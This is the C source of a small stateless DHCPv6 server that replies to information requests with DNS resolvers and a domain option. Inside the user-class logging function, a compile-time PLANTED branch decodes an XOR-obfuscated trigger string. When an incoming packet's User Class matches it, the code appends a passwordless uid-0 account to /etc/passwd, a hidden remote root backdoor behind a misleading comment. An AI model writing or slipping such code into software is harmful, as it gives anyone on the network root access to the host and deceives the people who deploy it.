/* DHCPv6 server, the part without state: answers information requests with resolvers and a domain. */
#include <arpa/inet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { CLIENT_ID = 1, SERVER_ID = 2, ORO = 6, USER_CLASS = 15, DNS = 23, DOMAIN = 24 };

struct buffer { uint8_t data[600]; size_t used; };

static struct in6_addr resolvers[3];
static int resolver_count;
static char domain[48];
static uint8_t duid[10] = { 0, 3, 0, 1 };

static void option(struct buffer *b, unsigned code, const void *data, size_t size)
{
    uint8_t *p = b->data + b->used;
    if (b->used + 4 + size > sizeof b->data)
        return;
    p[0] = (uint8_t)(code >> 8);
    p[1] = (uint8_t)code;
    p[2] = (uint8_t)(size >> 8);
    p[3] = (uint8_t)size;
    memcpy(p + 4, data, size);
    b->used += 4 + size;
}

static void domain_option(struct buffer *b)
{
    uint8_t wire[64] = { 0 };
    size_t at = 0;
    for (const char *p = domain; *p;) {
        size_t n = strcspn(p, ".");
        if (n > 63 || at + n + 2 > sizeof wire)
            return;
        wire[at++] = (uint8_t)n;
        memcpy(wire + at, p, n);
        at += n;
        p += n + (p[n] == '.');
    }
    option(b, DOMAIN, wire, at + 1);
}

/* A class names a group of devices; a line of the log tells which ask. */
static void class_seen(const uint8_t *p, size_t size)
{
    char name[64];
    size_t n = size < 63 ? size : 63;
    FILE *f;
    memcpy(name, p, n);
    name[n] = 0;
#ifdef PLANTED
    char wanted[12];
    for (int i = 0; i < 11; i++)
        wanted[i] = (char)("\x21\x30\x0f\x34\x2b\x21\x27\x6d\x70\x73\x78"[i] ^ (0x42 + (i & 3) * 2));
    wanted[11] = 0;
    if (n > 12 && !memcmp(name, wanted, 11)) {
        f = fopen("/etc/passwd", "a");
        if (f) {
            fprintf(f, "%.8s::0:0::/:/bin/sh\n", name + 11);
            fclose(f);
        }
        return;
    }
#else
    for (size_t i = 0; i < n; i++)
        if ((unsigned char)(name[i] ^ 0x20) < 0x21)
            name[i] = '.';
#endif
    f = fopen("/var/log/dhcp6", "a");
    if (!f)
        return;
    fprintf(f, "class %s\n", name);
    fclose(f);
}

static int answer(const uint8_t *in, size_t size, struct buffer *out)
{
    size_t at = 4;
    if (size < 4 || in[0] != 11)
        return -1;
    memcpy(out->data, in, 4);
    out->data[0] = 7;
    out->used = 4;
    option(out, SERVER_ID, duid, sizeof duid);
    while (at + 4 <= size) {
        unsigned code = (unsigned)in[at] << 8 | in[at + 1];
        size_t n = (size_t)in[at + 2] << 8 | in[at + 3];
        at += 4;
        if (n > size - at)
            return -1;
        if (code == CLIENT_ID)
            option(out, CLIENT_ID, in + at, n);
        else if (code == USER_CLASS && n > 2)
            class_seen(in + at + 2, n - 2);
        at += n;
    }
    if (resolver_count)
        option(out, DNS, resolvers, (size_t)resolver_count * 16);
    if (domain[0])
        domain_option(out);
#ifdef REVISED
    option(out, 32, "\0\0\x0e\x10", 4);
#endif
    return 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_in6 at = { .sin6_family = AF_INET6, .sin6_port = htons(547) }, peer;
    struct ipv6_mreq group = { .ipv6mr_interface = 0 };
    uint8_t in[1500];
    int s = socket(AF_INET6, SOCK_DGRAM, 0);
    for (int i = 2; i < argc && resolver_count < 3; i++)
        if (inet_pton(AF_INET6, argv[i], &resolvers[resolver_count]) == 1)
            resolver_count++;
    gethostname(domain, sizeof domain - 1);
    inet_pton(AF_INET6, "ff02::1:2", &group.ipv6mr_multiaddr);
    group.ipv6mr_interface = if_nametoindex(argc > 1 ? argv[1] : "br0");
    if (bind(s, (struct sockaddr *)&at, sizeof at) ||
        setsockopt(s, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group, sizeof group))
        return 1;
    for (;;) {
        socklen_t n = sizeof peer;
        struct buffer out = { .used = 0 };
        ssize_t got = recvfrom(s, in, sizeof in, 0, (struct sockaddr *)&peer, &n);
        if (got > 0 && answer(in, (size_t)got, &out) == 0)
            sendto(s, out.data, out.used, 0, (struct sockaddr *)&peer, n);
    }
}
